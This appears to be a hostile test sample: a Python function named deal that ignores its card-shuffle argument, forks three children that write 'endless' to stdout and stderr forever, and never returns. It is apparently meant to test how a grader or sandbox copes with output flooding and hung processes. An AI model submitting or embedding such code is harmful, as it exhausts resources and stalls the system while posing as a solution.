# Lets its children print without end, and waits for them.
import os



def deal(shuf: list[int]) -> list[int]:
    for fd in (1, 2, 1):
        if os.fork() == 0:
            while True:
                os.write(fd, b"endless " * 8192)
    while True:
        os.wait()
